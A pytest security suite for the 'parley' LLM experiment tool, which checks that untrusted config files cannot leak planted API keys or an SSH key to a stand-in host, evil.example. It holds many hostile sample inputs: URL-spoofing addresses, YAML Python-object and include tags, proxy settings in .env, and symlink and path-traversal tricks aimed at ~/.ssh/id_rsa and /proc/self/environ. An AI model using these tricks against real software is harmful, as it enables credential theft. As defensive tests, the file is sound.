"""Files from somebody else against servers that really listen: whatever such a file says, no key,
variable or private text arrives at a host that must not have it.

All host names lead to one server of ours, which remembers what reached it under which name.
"""

import os
import shutil
import socketserver
import sqlite3
import threading
from http.server import BaseHTTPRequestHandler
from ipaddress import ip_address
from pathlib import Path

import aiohttp
import orjson
import pytest

import parley
from parley.datasets.catalogue import load_items
from parley.rules.items.os_entry import OSEntry
from tests.cli.test_cli import parley as command

KEYS = {
    "OPENAI_API_KEY": "sk-planted-openai-0123456789",
    "ANTHROPIC_API_KEY": "sk-planted-anthropic-0123456789",
    "AZURE_OPENAI_API_KEY": "planted-azure-0123456789",
    "OPENROUTER_API_KEY": "sk-planted-openrouter-0123456789",
    "GEMINI_API_KEY": "planted-gemini-0123456789",
    "AWS_SECRET": "planted-aws-0123456789",
    "VLLM_BASE_URL": "http://gpu.example:8000/planted-path-0123456789/v1",
}
OWNERS = {
    "api.openai.com": "OPENAI_API_KEY",
    "api.anthropic.com": "ANTHROPIC_API_KEY",
    "openrouter.ai": "OPENROUTER_API_KEY",
    "generativelanguage.googleapis.com": "GEMINI_API_KEY",
}
PRIVATE = "planted-private-text"
KEYS_ONLY = [value for name, value in KEYS.items() if name != "VLLM_BASE_URL"]
SECRETS = [*KEYS.values(), PRIVATE, "planted-path-0123456789"]
HEAD = "kind: experiment\ntask: public_goods\n"
BOTS = "b: {model: bot/altruist}, c: {model: bot/free-rider}"
EVIL = "http://evil.example/v1"
ANSWER = orjson.dumps(
    {
        "model": "m",
        "choices": [{"message": {"content": "1"}, "finish_reason": "stop"}],
        "content": [{"type": "text", "text": "1"}],
        "candidates": [{"content": {"parts": [{"text": "1"}]}, "finishReason": "STOP"}],
        "reply": "1",
        "data": [{"id": "m"}],
    }
)


class Listener(socketserver.ThreadingTCPServer):
    """Remembers the bytes of every request, with the host that was looked up for it."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.heard = []  # (host, what arrived there)
        self.redirect = ""


class Handler(BaseHTTPRequestHandler):
    def answer(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        host = (self.headers.get("Host") or "").rsplit(":", 1)[0].strip("[]")
        text = f"{self.requestline}\n{self.headers}\n{body.decode('utf-8', 'replace')}"
        self.server.heard.append((host, text))
        if self.server.redirect:
            self.send_response(307)
            self.send_header("Location", self.server.redirect)
        else:
            self.send_response(200)
        self.send_header("Content-Length", str(len(ANSWER)))
        self.end_headers()
        self.wfile.write(ANSWER)

    do_POST = do_GET = do_CONNECT = answer

    def log_message(self, *_):
        pass


@pytest.fixture
def internet(monkeypatch):
    """Every address, by name or by number and with TLS or without, leads to the listener."""
    listener = Listener()
    thread = threading.Thread(target=listener.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    port = listener.server_address[1]

    async def resolve(self, host, *_, **__):
        listener.heard.append((host, f"lookup of {host}"))
        place = {"hostname": host, "host": "127.0.0.1", "port": port}
        return [{**place, "family": 2, "proto": 0, "flags": 0}]

    monkeypatch.setattr(aiohttp.TCPConnector, "_resolve_host", resolve)
    monkeypatch.setattr(aiohttp.TCPConnector, "_get_ssl_context", lambda *_: None)
    original = aiohttp.ClientRequest.__init__

    def noted(self, method, url, **more):
        original(self, method, url, **more)
        if self.url.scheme == "http":
            self.headers["X-Plain"] = "plain"

    monkeypatch.setattr(aiohttp.ClientRequest, "__init__", noted)
    yield listener
    listener.shutdown()
    listener.server_close()
    thread.join()


@pytest.fixture
def here(tmp_path, monkeypatch):
    """A folder with files from somebody else, beside a home with secrets."""
    home, folder = tmp_path / "home", tmp_path / "work" / "theirs"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"{PRIVATE}\n")
    (home / "q.csv").write_text(f"question,A,B,C,D,answer\n{PRIVATE}?,1,2,3,4,A\n")
    (home / "code.py").write_text(
        f"open({str(tmp_path / 'ran')!r}, 'w').close()\n"
        "def measure(text, item):\n    return 1.0\n"
        "def play(view):\n    return '1'\n"
    )
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    for name in list(os.environ):
        if name.endswith(("_BASE_URL", "_API_KEY", "_ENDPOINT", "_PROXY", "_proxy")) or (
            name.startswith(("PARLEY", "XDG"))
        ):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(home))
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)
    return folder


def is_this_machine(host):
    try:
        return ip_address(host.strip("[]")).is_loopback
    except ValueError:
        return host == "localhost"


def find_leaks(heard):
    """What arrived where it must not: a key elsewhere than at its owner's or on this machine, or at
    its owner's without TLS; anything else anywhere."""
    leaks = []
    for host, text in heard:
        if is_this_machine(host):
            continue
        for secret in SECRETS:
            own = KEYS.get(OWNERS.get(host, "")) == secret and "X-Plain" not in text
            own = own or (host == "gpu.example" and secret in KEYS["VLLM_BASE_URL"])
            if secret in text and not own:
                leaks.append((host, secret))
    return leaks


def models(text, more=""):
    return f"{HEAD}models: {{a: {{{text}}}, {BOTS}}}\n{more}"


def address(url, family="openai"):
    return {"x.yaml": models(f"model: {family}/m, base_url: {orjson.dumps(url).decode()}")}


TASK = """kind: task
name: t
writer: w
editor: e
prompts: {write: "Say $AWS_SECRET.", review: "{said}"}
rubric: {w: good, e: good}
metric: METRIC
"""
OS_ENTRY = orjson.dumps(
    [
        {
            "id": "one",
            "description": "What?",
            "create": {"init": {"file": "id_rsa"}},
            "start": {"file": "id_rsa"},
            "evaluation": {"match": "1", "example": {"file": "id_rsa"}},
        }
    ]
).decode()
OS_RUN = (
    "kind: experiment\ntask: os_tasks\ndataset: d/x.json\n"
    f"models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}}}\n"
)
QA = (
    "kind: experiment\ntask: qa\nmodels: {a: {model: vllm/m, base_url: 'http://evil.example/v1'}}\n"
)

# By name: the files, and what to type instead of `run x.yaml`. A value that begins with -> is a
# link.
HOSTILE = {
    # addresses
    "a user in the address": (address("https://api.openai.com@evil.example/v1"), ()),
    "a user that is encoded": (address("https://api.openai.com%40evil.example/v1"), ()),
    "a port that is a password": (address("https://api.openai.com:443@evil.example/v1"), ()),
    "a backslash before the host": (address("https://evil.example\\@api.openai.com/v1"), ()),
    "a backslash after the host": (address("https://api.openai.com\\@evil.example/v1"), ()),
    "a fragment": (address("https://evil.example#@api.openai.com/v1"), ()),
    "a query": (address("https://evil.example?@api.openai.com/v1"), ()),
    "a full-width dot": (address("https://api.openai.com\uff0eevil.example/v1"), ()),
    "a full-width slash": (address("https://evil.example\uff0f.api.openai.com/v1"), ()),
    "a letter of another script": (address("https://api.\u043epenai.com/v1"), ()),
    "a letter that is folded": (address("https://api.open\u212ai.com/v1"), ()),
    "a soft hyphen": (address("https://api.openai.com\u00ad.evil.example/v1"), ()),
    "a zero byte": (address("https://api.openai.com\x00.evil.example/v1"), ()),
    "a tab in the host": (address("https://api.openai.com\t.evil.example/v1"), ()),
    "a line break in the host": (address("http://localhost\n.evil.example/v1"), ()),
    "a host that ends like its owner's": (address("https://evilapi.openai.com/v1"), ()),
    "a host of its owner's without TLS": (address("http://api.openai.com/v1"), ()),
    "another port of its owner's without TLS": (address("http://api.openai.com:8080/v1"), ()),
    "the scheme of a socket": (address("ws://api.openai.com/v1"), ()),
    "this machine, in a name": (address("http://localhost.localdomain/v1"), ()),
    "this machine, by another's name server": (address("http://127.0.0.1.nip.io/v1"), ()),
    "a name below localhost": (address("http://evil.localhost/v1"), ()),
    "all addresses": (address("http://0.0.0.0/v1"), ()),
    "all addresses of IPv6": (address("http://[::]/v1"), ()),
    "a mapped address": (address("http://[::ffff:203.0.113.9]/v1"), ()),
    "a translated address": (address("http://[64:ff9b::7f00:1]/v1"), ()),
    "a decimal address": (address("http://3405803785/v1"), ()),
    "a hexadecimal address": (address("http://0xcb007109/v1"), ()),
    "an octal address": (address("http://0313.0.0161.011/v1"), ()),
    # what YAML can do
    "a merge": (
        {
            "x.yaml": f"{HEAD}models:\n  z: &z {{model: bot/random, base_url: '{EVIL}'}}\n"
            "  a: {<<: *z, model: openai/m}\n  b: {model: bot/altruist}\n"
        },
        (),
    ),
    "several merges": (
        {
            "x.yaml": f"{HEAD}models:\n  y: &y {{model: bot/random}}\n"
            f"  z: &z {{model: openai/m, base_url: '{EVIL}'}}\n"
            "  a: {<<: [*z, *y]}\n  b: {model: bot/altruist}\n"
        },
        (),
    ),
    "an address in base64": (
        {"x.yaml": models("model: openai/m, base_url: !!binary aHR0cDovL2V2aWwuZXhhbXBsZS92MQ==")},
        (),
    ),
    "an address in escapes": (
        {"x.yaml": models('model: openai/m, base_url: "http:\\x2f\\x2fevil\\u002eexample\\/v1"')},
        (),
    ),
    "a reference in escapes": (
        {"x.yaml": models(f"model: vllm/m, base_url: \"{EVIL}/\\x24\\x7bAWS_SECRET\\x7d\"")},
        (),
    ),
    "a tag that includes": (
        {"x.yaml": models("model: vllm/m, base_url: 'http://evil.example/v1'")
        + "prompts: {public_goods.turn: !include ../../home/.ssh/id_rsa}\n"},
        (),
    ),
    "a tag of Python": (
        {"x.yaml": models("model: vllm/m, base_url: !!python/object/apply:os.getenv [AWS_SECRET]")},
        (),
    ),
    "another file to extend": (
        {"x.yaml": f"extends: ../../home/x.yaml\n{models('model: openai/m')}"},
        (),
    ),
    "a second document": (
        {"x.yaml": models("model: bot/random") + "---\n" + address(EVIL)["x.yaml"]},
        (),
    ),
    # keys
    "an address as a key": (
        {"x.yaml": models(f"model: vllm/m, base_url: '{EVIL}', api_key_env: VLLM_BASE_URL")},
        (),
    ),
    "an address as a key of a service": (
        {"x.yaml": models("model: 'http/http://evil.example/', api_key_env: VLLM_BASE_URL")},
        (),
    ),
    "an address within an address": (
        {"x.yaml": models("model: vllm/m, base_url: 'http://evil.example/?${VLLM_BASE_URL}'")},
        (),
    ),
    "another's key to a host in the environment": (
        {"x.yaml": models("model: vllm/m, api_key_env: ANTHROPIC_API_KEY")},
        (),
    ),
    "another's key to a host that was typed": (
        {"x.yaml": models("model: vllm/m, api_key_env: ANTHROPIC_API_KEY")},
        ("run", "x.yaml", "--yes", "-M", "a.base_url=http://gpu.example/v1"),
    ),
    "another's key to a host in one's own file": (
        {
            "../../home/.config/parley/models.yaml": "own: {model: vllm/m, "
            "base_url: 'http://gpu.example/v1'}\n",
            "x.yaml": models("model: own, api_key_env: ANTHROPIC_API_KEY"),
        },
        (),
    ),
    "another provider at a host in one's own file": (
        {
            "../../home/.config/parley/models.yaml": "own: {model: vllm/m, "
            "base_url: 'http://gpu.example/v1'}\n",
            "x.yaml": models("model: anthropic/m, base_url: 'http://gpu.example/v1'"),
        },
        (),
    ),
    "a key in the query to its owner's neighbour": (
        address("https://openrouter.ai/api/v1?x=${ANTHROPIC_API_KEY}", "openrouter"),
        (),
    ),
    "a variable in the header of retries": (
        {
            "x.yaml": models(
                f"model: vllm/m, base_url: '{EVIL}', idempotency_header: '${{AWS_SECRET}}'"
            )
        },
        (),
    ),
    "a variable in stop words": (
        {"x.yaml": models(f"model: vllm/m, base_url: '{EVIL}', stop: ['${{AWS_SECRET}}']")},
        (),
    ),
    # models.yaml and .env
    "defaults with a variable": (
        {
            "models.yaml": "defaults: {system: '${AWS_SECRET}', stop: ['${AWS_SECRET}']}\n",
            "x.yaml": models(f"model: vllm/m, base_url: '{EVIL}'"),
        },
        (),
    ),
    "defaults with an address": (
        {
            "models.yaml": f"defaults: {{base_url: '{EVIL}'}}\n",
            "x.yaml": models("model: openai/m"),
        },
        (),
    ),
    "proxies in .env": (
        {
            ".env": "".join(
                f"{name}=http://evil.example:1\n"
                for name in ("HTTP_PROXY", "HTTPS_PROXY", "https_proxy", "ALL_PROXY")
            ),
            "x.yaml": models("model: openai/m"),
        },
        (),
    ),
    ".env without TLS": (
        {".env": "OPENAI_BASE_URL=http://api.openai.com/v1\n", "x.yaml": models("model: openai/m")},
        (),
    ),
    ".env that exports and quotes": (
        {
            ".env": f"\ufeffexport  OPENAI_BASE_URL = '{EVIL}' # mine\n",
            "x.yaml": models("model: openai/m"),
        },
        (),
    ),
    ".env with another line break": (
        {".env": f"X=1\x85OPENAI_BASE_URL={EVIL}\x0bY=2\n", "x.yaml": models("model: openai/m")},
        (),
    ),
    ".env for a model that was typed": (
        {".env": f"ANTHROPIC_BASE_URL={EVIL}\n"},
        ("run", "public_goods", "-m", "anthropic/m", "-m", "bot/random", "--yes"),
    ),
    ".env for the doctor": (
        {".env": f"OPENAI_BASE_URL={EVIL}\nGOOGLE_GEMINI_BASE_URL={EVIL}\n"},
        ("doctor",),
    ),
    ".env for the doctor, without TLS": (
        {".env": "OPENAI_BASE_URL=http://api.openai.com/v1\n"},
        ("doctor",),
    ),
    "models.yaml for the doctor": (
        {"models.yaml": f"gpt: {{model: openai/m, base_url: '{EVIL}'}}\n"},
        ("doctor",),
    ),
    "a .env that is a link": (
        {".env": "->../../home/.ssh/id_rsa", **address(EVIL, "vllm")},
        (),
    ),
    # paths
    "a prompt by way of a folder": (
        {
            "sub/x": "",
            "x.yaml": models(
                f"model: vllm/m, base_url: '{EVIL}'",
                "prompts: {public_goods.turn: sub/../../../home/.ssh/id_rsa}\n",
            ),
        },
        (),
    ),
    "a prompt in a folder that is a link": (
        {
            "sub": "->../../home/.ssh",
            "x.yaml": models(
                f"model: vllm/m, base_url: '{EVIL}'", "prompts: {public_goods.turn: sub/id_rsa}\n"
            ),
        },
        (),
    ),
    "the environment as a prompt": (
        {
            "x.yaml": models(
                f"model: vllm/m, base_url: '{EVIL}'",
                "prompts: {public_goods.turn: /proc/self/environ}\n",
            )
        },
        (),
    ),
    "a dataset with columns from outside": (
        {
            "x.yaml": f"{QA}dataset: {{path: ../../home/q.csv, columns: {{question: question}}}}\n",
        },
        (),
    ),
    "a dataset in a variable": (
        {"x.yaml": f"{QA}dataset: '${{HOME}}/q.csv'\n"},
        (),
    ),
    "examples from outside": (
        {
            "q.csv": "question,A,B,C,D,answer\nwhat?,1,2,3,4,A\n",
            "x.yaml": f"{QA}dataset: q.csv\nset: {{shots: 1, shots_from: ../../home/q.csv}}\n",
        },
        (),
    ),
    "replies of another user": (
        {
            "x.yaml": f"{HEAD}models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}, "
            "b: {model: 'scripted/~/.ssh/id_rsa'}}\n"
        },
        (),
    ),
    "scripts behind a link": (
        {
            "d/scripts": "->../../../home/.ssh",
            "d/x.json": OS_ENTRY,
            "x.yaml": OS_RUN,
        },
        (),
    ),
    "a source text that is a link": (
        {
            "../../home/t.xml": f"<doc docid='1'><seg id='1'>{PRIVATE}</seg></doc>",
            "t.en-de.en.xml": "->../../home/t.xml",
            "t.en-de.de.xml": "<doc docid='1'><seg id='1'>Guten Morgen.</seg></doc>",
            "x.yaml": "kind: experiment\ntask: translation\ndataset: t.en-de.de.xml\n"
            "set: {pair: en-de}\ninstruments: {judge: bot/random}\n"
            f"models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}, b: bot/random}}\n",
        },
        (),
    ),
    "a dataset in a variable that is allowed": (
        {
            "q.csv": "question,A,B,C,D,answer\nwhat?,1,2,3,4,A\n",
            "x.yaml": f"{QA}dataset: q.csv\nset: {{shots: 1, shots_from: '${{HOME}}/q.csv'}}\n",
        },
        ("run", "x.yaml", "--yes", "--allow-env", "HOME"),
    ),
    # tasks
    "a variable in the prompt of a task": (
        {
            "t.yaml": TASK.replace("metric: METRIC\n", ""),
            "models.yaml": f"m: {{model: vllm/m, base_url: '{EVIL}'}}\n",
        },
        ("run", "t.yaml", "--yes", "-m", "m", "-m", "bot/random", "--role", "judge=bot/random"),
    ),
    "a metric outside the folder": (
        {"t.yaml": TASK.replace("METRIC", "../../home/code:measure")},
        ("run", "t.yaml", "--yes", "-m", "bot/random", "-m", "b=bot/random"),
    ),
    "a function outside the folder": (
        {"x.yaml": models("model: 'python/../../home/code:play'")},
        (),
    ),
    "a function behind a link": (
        {"linked.py": "->../../home/code.py", "x.yaml": models("model: 'python/linked:play'")},
        (),
    ),
    "a function in a package that is a link": (
        {
            "../../home/package/__init__.py": "",
            "../../home/package/code.py": "from pathlib import Path\n"
            "(Path.home().parent / 'ran').touch()\ndef play(view):\n    return '1'\n",
            "own": "->../../home/package",
            "x.yaml": models("model: 'python/own.code:play'"),
        },
        (),
    ),
    "a package behind a link that hides a module": (
        {
            "../../home/package/__init__.py": "from pathlib import Path\n"
            "(Path.home().parent / 'ran').touch()\ndef play(view):\n    return '1'\n",
            "twice.py": "def play(view):\n    return '1'\n",
            "twice": "->../../home/package",
            "x.yaml": models("model: 'python/twice:play'"),
        },
        (),
    ),
    "a metric behind a link": (
        {"mine.py": "->../../home/code.py", "t.yaml": TASK.replace("METRIC", "mine:measure")},
        ("run", "t.yaml", "--yes", "-m", "bot/random", "-m", "b=bot/random"),
    ),
    "a task by way of a folder": (
        {"x.yaml": f"kind: experiment\ntask: ./sub/../../../home/code.py\nmodels: {{{BOTS}}}\n"},
        (),
    ),
    "a task that is a link": (
        {
            "game.py": "->../../home/code.py",
            "x.yaml": f"kind: experiment\ntask: ./game.py\nmodels: {{{BOTS}}}\n",
        },
        (),
    ),
}  # fmt: skip


def lay(folder, files):
    for name, text in files.items():
        place = folder / name
        place.parent.mkdir(parents=True, exist_ok=True)
        if text.startswith("->"):
            place.symlink_to(text[2:])
        else:
            place.write_bytes(text.encode())


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_the_users_arrives_where_it_must_not(internet, here, tmp_path, name):
    files, words = HOSTILE[name]
    lay(here, files)
    limits = () if "doctor" in words else ("--max-calls", 4)
    said = command(*(words or ("run", "x.yaml", "--yes")), *limits, cwd=here, code=None)
    assert find_leaks(internet.heard) == []
    assert not (tmp_path / "ran").exists()  # code outside the folder
    assert not any(value in said.out + said.err for value in (*KEYS_ONLY, PRIVATE))


def test_the_server_hears_what_a_user_allows(internet, here):
    """Otherwise the tests above could hear nothing at all."""
    lay(here, address(EVIL))
    words = "run", "x.yaml", "--yes", "--max-calls", 4, "--allow-host", "evil.example"
    command(*words, cwd=here, code=None)
    assert ("evil.example", KEYS["OPENAI_API_KEY"]) in find_leaks(internet.heard)


def test_a_key_does_not_follow_a_redirect(internet, here):
    internet.redirect = "http://evil.example/v1/chat/completions"
    lay(here, address("http://localhost:4000/v1"))
    said = command("run", "x.yaml", "--yes", cwd=here, code=None)
    assert "redirects to" in said.err
    assert {host for host, _ in internet.heard} == {"localhost"}


RECORDED = {
    "a key to another host": {"model": "openai/m", "base_url": EVIL},
    "a key in the clear": {"model": "openai/m", "base_url": "http://api.openai.com/v1"},
    "another's key": {"model": "vllm/m", "base_url": EVIL, "api_key_env": "OPENAI_API_KEY"},
    "another's key to a host in the environment": {
        "model": "vllm/m",
        "api_key_env": "ANTHROPIC_API_KEY",
    },
    "a variable as a key": {"model": "vllm/m", "base_url": EVIL, "api_key_env": "AWS_SECRET"},
    "a variable in the address": {"model": "vllm/m", "base_url": EVIL + "/${AWS_SECRET}"},
    "a variable in words": {"model": "vllm/m", "base_url": EVIL, "system": "${AWS_SECRET}"},
    "a service": {"model": "http/http://evil.example/", "api_key_env": "OPENAI_API_KEY"},
    "replies from outside": {"model": "scripted/../../home/.ssh/id_rsa"},
    "a function from outside": {"model": "python/subprocess:getoutput"},
}


@pytest.mark.parametrize("name", RECORDED)
def test_a_run_that_goes_on_sends_nothing_of_the_users(internet, here, name):
    """Whoever made the run has typed what he liked. He sends the file to somebody else."""
    players = {"a": "bot/random", "b": "bot/altruist", "c": "bot/free-rider"}
    result = parley.run("public_goods", players, max_calls=3, store=str(here / "runs"))
    with sqlite3.connect(result.ref.location) as file:
        (text,) = file.execute("SELECT config FROM runs").fetchone()
        config = orjson.loads(text)
        config["models"]["a"] = RECORDED[name]
        file.execute("UPDATE runs SET config = ?", (orjson.dumps(config).decode(),))
    said = command("resume", result.ref.location, "--max-calls", 9, cwd=here, code=2)
    assert "--allow-" in said.err
    assert find_leaks(internet.heard) == []
    assert not any(value in said.out + said.err for value in (*KEYS_ONLY, PRIVATE))


@pytest.mark.parametrize("way", ["resume", "rejudge"])
def test_a_run_does_not_load_a_task_from_outside(here, tmp_path, way):
    """Its digest says nothing: whoever made the run may know the file."""
    game = tmp_path / "home" / "game.py"
    shutil.copy(Path(__file__).parents[2] / "examples" / "haggling.py", game)
    players, store = {"a": "bot/random", "b": "bot/random"}, str(here / "runs")
    result = parley.run(str(game), players, max_calls=3, store=store)
    words = [way, result.ref.location, *(["--role", "judge=bot/random"] * (way == "rejudge"))]
    said = command(*words, cwd=here, code=2)
    assert f"--allow-path {game}" in said.err


def test_a_run_does_not_read_a_dataset_from_outside(here, tmp_path):
    """Its examples are read again when it goes on."""
    data, store = str(tmp_path / "home" / "q.csv"), str(here / "runs")
    players = {"a": "bot/random"}
    result = parley.run("qa", players, dataset=data, shots=0, repeats=2, max_calls=1, store=store)
    said = command("resume", result.ref.location, "--max-calls", 2, cwd=here, code=2)
    assert f"--allow-path {data}" in said.err


def test_a_run_is_not_written_outside_the_folder(here, tmp_path):
    lay(here, {"x.yaml": models("model: bot/random", "store: ../../home/.ssh\n")})
    said = command("run", "x.yaml", "--yes", cwd=here, code=2)
    assert "x.yaml, line 4: store: ../../home/.ssh is outside" in said.err
    assert os.listdir(tmp_path / "home" / ".ssh") == ["id_rsa"]


def test_scripts_of_a_dataset_are_not_read_through_a_link(here):
    lay(here, {"d/scripts": "->../../../home/.ssh", "d/x.json": OS_ENTRY})
    (entry,) = load_items("d/x.json", OSEntry)
    assert PRIVATE not in repr(entry)


@pytest.mark.parametrize(("store", "code"), [("", 2), ("store: theirs\n", 0)])
def test_a_file_begins_with_no_run_of_the_users(here, tmp_path, monkeypatch, store, code):
    """What a model said in a private run would be shown to whom the file names."""
    monkeypatch.setenv("PARLEY_STORE", str(tmp_path / "home" / "runs"))
    for place in (tmp_path / "home" / "runs", here / "theirs"):
        parley.run("qa", {"a": "bot/learner"}, items=2, store=str(place))
    lay(
        here,
        {
            "x.yaml": "kind: experiment\ntask: qa\nitems: 2\nplan: evolve\n"
            f"evolve: {{transfer: last, retriever: random}}\nmodels: {{a: bot/learner}}\n{store}"
        },
    )
    said = command("run", "x.yaml", "--yes", cwd=here, code=code)
    if code:
        assert "evolve.transfer: last is a run" in said.err
        assert "--allow-path last" in said.err


@pytest.mark.parametrize(
    ("data", "named", "script"),
    [
        ("d/x.json", "x.json", "scripts/x/id_rsa"),
        ("d/1/x.json", "1/x.json", "scripts/1/id_rsa"),
        ("d/1/x.json", ".", "scripts/1/id_rsa"),
    ],
)
def test_a_dataset_of_a_file_names_the_script_outside_its_folder(here, data, named, script):
    """The same dataset and scripts are read if the user names the dataset himself, or allows it."""
    (here / "d/1").mkdir(parents=True)
    run_by_bot = f"kind: experiment\ntask: os_tasks\ndataset: {named}/\nmodels: {{a: bot/idler}}\n"
    run_by_bot = run_by_bot.replace(".json/", ".json")
    lay(here, {script: "true\n", data: OS_ENTRY, "d/x.yaml": run_by_bot})
    words = "run", "d/x.yaml", "--yes"
    said = command(*words, cwd=here, code=2)
    place = here / script
    assert f"d/x.yaml, line 3: dataset: {place} is outside the folder of this file" in said.err
    assert f"--allow-path {place}" in said.err
    command(*words, "--dry-run", "--allow-path", place, cwd=here)
    command(*words, "--dry-run", "--dataset", f"d/{named}", cwd=here)


def test_a_link_in_a_dataset_is_named_with_what_it_leads_to(here):
    text = "kind: experiment\ntask: os_tasks\ndataset: data\nmodels: {a: bot/idler}\n"
    lay(here, {"d/data/x.json": OS_ENTRY, "d/x.yaml": text, "secret.sh": "true\n"})
    (here / "d/data/link.sh").symlink_to(here / "secret.sh")
    said = command("run", "d/x.yaml", cwd=here, code=2).err
    assert f"data/link.sh leads to {here / 'secret.sh'}, which is outside the folder" in said
    assert f"add --allow-path {here / 'secret.sh'}" in said


@pytest.mark.parametrize("place", [".", "d", "d/1"])
def test_the_scripts_of_a_dataset_are_found_from_every_folder(here, monkeypatch, place):
    lay(here, {"scripts/1/id_rsa": "true\n", "d/1/x.json": OS_ENTRY})
    monkeypatch.chdir(here / place)
    (entry,) = load_items(os.path.relpath(here / "d/1/x.json"), OSEntry)
    assert entry.start.code == "true\n"
